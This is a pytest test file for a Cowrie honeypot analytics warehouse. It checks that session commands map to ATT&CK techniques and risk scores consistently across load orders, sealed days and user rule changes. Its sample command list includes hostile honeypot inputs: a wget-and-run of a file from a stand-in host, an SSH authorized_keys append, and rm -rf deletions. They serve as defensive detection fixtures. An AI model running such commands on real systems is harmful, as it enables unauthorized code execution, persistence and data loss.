"""Techniques and risk of sessions: by the rules in force, in whatever order events and rules come."""

import random
from collections import defaultdict
from collections.abc import Iterable
from datetime import date
from pathlib import Path

import orjson
import pytest
from sqlalchemy import text

from cowrie_assets.cowrie.attack import attack
from cowrie_assets.cowrie.rule_set import RuleSet, rule_set
from cowrie_assets.cowrie.rule_table import RuleError
from cowrie_assets.operations.ingest import ingest
from cowrie_assets.operations.rebuild import rebuild
from cowrie_assets.operations.seal import remove_raw_events, seal
from cowrie_assets.settings import Settings
from cowrie_assets.summaries import rules
from cowrie_assets.summaries.checks import run_checks
from cowrie_assets.summaries.pending import pending_days
from cowrie_assets.summaries.refresh import refresh
from cowrie_assets.summaries.rules import remap
from cowrie_assets.warehouse.engine import Warehouse
from cowrie_assets_tests import events, tables
from cowrie_assets_tests.loading import load_lines
from cowrie_assets_tests.summaries.shown_techniques import COUNTED, Shown, shown_by

COMMANDS = (
    *("rm -rf /tmp/x", "wget http://192.0.2.1/x", "./x", "uname -a; id", "rm y", "exit", "free -m; rm z"),
    *(
        "cd /tmp; wget http://192.0.2.1/x; sh x; rm -rf x",
        "cat \u2028/proc/\x00cpuinfo",
        "echo x >> ~/.ssh/authorized_keys",
    ),
)
OWN_RULE = """
[[rule]]
id = "asks_for_smtp"
technique = "T1046"
description = "asks which mail server there is"
when = [{ programs = "nslookup", words = ["type=mx"] }]
matches = ["nslookup -type=mx example.org"]
"""
THU, FRI = date(2026, 8, 27), date(2026, 8, 28)


def expected(rules: RuleSet, lines: Iterable[bytes]) -> dict[str, Shown]:
    """What the events of each session show, worked out event by event."""
    sessions = defaultdict(list)
    for line in set(lines):
        event = orjson.loads(line)
        sessions[event["session"]].append(event)
    return {session: shown for session, group in sessions.items() if (shown := shown_by(rules, group))}


def stored(warehouse: Warehouse) -> dict[str, Shown]:
    found: dict[str, Shown] = defaultdict(dict)
    for row in tables.rows(warehouse, "session_techniques"):
        assert row["attack_version"] == attack().version
        found[row["session_id"]][row["rule"]] = (row["technique"], row["evidence"], row["first_seen"], row["last_seen"])
    return found


def lines_of(chosen: random.Random, number: int) -> list[bytes]:
    """Events of few sessions over two days, many of them at the same moment."""
    kinds = ("cowrie.command.input",) * 6 + ("cowrie.login.failed",) * 3 + (*COUNTED, "cowrie.session.connect")
    found = []
    for place in range(number):
        kind = chosen.choice(kinds)
        moment = f"2026-08-{chosen.choice((27, 28))}T{chosen.choice((0, 23)):02}:{chosen.randrange(3):02}:00.000000Z"
        session = f"{chosen.randrange(number // 12):012x}"
        is_command = kind == "cowrie.command.input"
        more = {"input": chosen.choice(COMMANDS)} if is_command else {"dst_ip": "198.51.100.1", "dst_port": 25}
        found.append(events.line(0, eventid=kind, session=session, timestamp=moment, message=str(place), **more))
    return found


def test_whatever_the_order_of_loads_a_session_shows_what_its_events_do(warehouse: Warehouse, tmp_path: Path) -> None:
    chosen = random.Random(20260829)
    lines = lines_of(chosen, 240)
    truth = expected(rule_set(), lines)
    assert {rule for shown in truth.values() for rule in shown} >= {
        "file_deletion",
        "refused_logins",
        "forwarded_connection",
        "download",
    }
    for part in range(3):
        load_lines(warehouse, tmp_path, *lines[part::3])
        refresh(warehouse)
    assert stored(warehouse) == truth
    again = rebuild(warehouse)
    assert (again.refresh.rows_removed, again.refresh.rows_written) == (0, 0)
    assert [result for result in run_checks(warehouse) if not result.passed] == []


@pytest.fixture
def filled(warehouse: Warehouse, tmp_path: Path) -> Warehouse:
    """A day with a command that no rule of the project maps, and one without."""
    load_lines(
        warehouse,
        tmp_path,
        events.line(3, session="aaaaaaaaaaaa", input="nslookup -type=mx example.org", timestamp="2026-08-27T12:00:00Z"),
        events.line(3, session="bbbbbbbbbbbb", input="uname -a", timestamp="2026-08-28T12:00:00Z"),
    )
    refresh(warehouse)
    return warehouse


def test_rules_that_change_reach_what_they_concern_also_of_a_sealed_day(filled: Warehouse) -> None:
    before = stored(filled)
    assert "asks_for_smtp" not in before["aaaaaaaaaaaa"]
    seal(filled, THU, THU)
    remove_raw_events(filled, THU)
    assert remap(filled, OWN_RULE) == 1
    assert pending_days(filled) == [THU]
    refresh(filled)
    rows = stored(filled)
    assert rows["aaaaaaaaaaaa"]["asks_for_smtp"][:2] == ("T1046", "nslookup -type=mx example.org")
    assert rows["bbbbbbbbbbbb"] == before["bbbbbbbbbbbb"]
    assert [result for result in run_checks(filled) if not result.passed] == []
    assert remap(filled) == 0, "as before: they stay"
    remap(filled, "")
    refresh(filled)
    assert stored(filled) == before


def test_a_rule_on_counts_reaches_every_day(filled: Warehouse) -> None:
    counting = OWN_RULE.replace(
        'programs = "nslookup", words = ["type=mx"]', "session = 'login_failures', at_least = 1"
    )
    remap(filled, counting.replace('"nslookup -type=mx example.org"', "{ login_failures = 1 }"))
    assert pending_days(filled) == [THU, FRI]


def test_rules_on_risk_reach_commands_sessions_and_reports_also_of_a_sealed_day(filled: Warehouse) -> None:
    def risks() -> dict[str, tuple[int, int]]:
        high = {row["session_id"]: row["high_risk"] for row in tables.rows(filled, "command_stats")}
        return {
            row["session_id"]: (row["risk_score"], high[row["session_id"]])
            for row in tables.rows(filled, "session_summaries")
        }

    def versions() -> dict[int, int]:
        with filled.read() as connection:
            return dict(connection.execute(text("SELECT session_day, version FROM changed_days")).all())

    seal(filled, THU, THU)
    remove_raw_events(filled, THU)
    before, as_read = risks(), versions()
    assert before == {"aaaaaaaaaaaa": (20, 0), "bbbbbbbbbbbb": (20, 0)}
    scoring = OWN_RULE.replace('technique = "T1046"', "score = 90")
    assert remap(filled, scoring) == 1
    assert pending_days(filled) == [THU]
    assert {day for day, version in versions().items() if version != as_read[day]} == {min(as_read)}
    refresh(filled)
    assert risks() == before | {"aaaaaaaaaaaa": (90, 1)}
    assert [result for result in run_checks(filled) if not result.passed] == []
    assert remap(filled, scoring + "# the same") == 0
    assert pending_days(filled) == []
    with filled.write() as connection:
        connection.execute(text("UPDATE commands SET ruleset = 0, risk_score = 1"))
    refresh(filled)
    assert risks()["aaaaaaaaaaaa"] == (90, 1), "what is scored anew, is so by the user's own rules, too"
    remap(filled, "")
    refresh(filled)
    assert risks() == before


def test_rules_that_the_warehouse_keeps_and_a_release_cannot_use_are_told_with_what_to_do(filled: Warehouse) -> None:
    remap(filled, OWN_RULE)
    with filled.write() as connection:
        broken = text("UPDATE technique_ruleset SET own_rules = :broken, digest = :other")
        connection.execute(broken, {"broken": OWN_RULE + "x = 1", "other": b"x" * 16})
    with pytest.raises(RuleError, match=r"asks_for_smtp: there is no x.*COWRIE_RULES_FILE names, and .*ingest"):
        refresh(filled)
    remap(filled, OWN_RULE)
    refresh(filled)


def test_rules_of_the_user_that_cannot_be_used_change_nothing(filled: Warehouse) -> None:
    before = stored(filled)
    with pytest.raises(RuleError, match="does not match its example"):
        remap(filled, OWN_RULE.replace("nslookup -type=mx", "dig mx"))
    assert pending_days(filled) == []
    assert stored(filled) == before


def test_what_a_newer_release_mapped_is_left_to_it_until_a_rebuild(filled: Warehouse, tmp_path: Path) -> None:
    with filled.write() as connection:
        newer = text("UPDATE technique_ruleset SET version = version + 1, digest = :other")
        connection.execute(newer, {"other": b"x" * 16})
    load_lines(filled, tmp_path, events.line(3, session="cccccccccccc", input="id", timestamp="2026-08-28T13:00:00Z"))
    refresh(filled)
    assert pending_days(filled) == [FRI]
    rebuild(filled)
    assert stored(filled)["cccccccccccc"].keys() == {"users_logged_in"}


def test_commands_that_were_stored_by_an_earlier_revision_are_mapped(filled: Warehouse, monkeypatch) -> None:
    before = stored(filled)
    with filled.write() as connection:
        for table in ("technique_ruleset", "technique_rules", "technique_counts", "technique_orders"):
            connection.execute(text(f"DELETE FROM {table}"))
        connection.execute(text("DELETE FROM command_techniques"))
        connection.execute(text("DELETE FROM technique_facts"))
    refresh(filled)
    assert stored(filled) == before
    monkeypatch.setattr(rules, "_judge_again", None)
    refresh(filled)


def test_an_ingest_of_the_sample_proves_itself(warehouse: Warehouse, sample_settings: Settings) -> None:
    ingest(warehouse, sample_settings)
    assert {row["rule"] for row in tables.rows(warehouse, "session_techniques")} >= {"accepted_login", "download"}
    assert [result for result in run_checks(warehouse) if not result.passed] == []
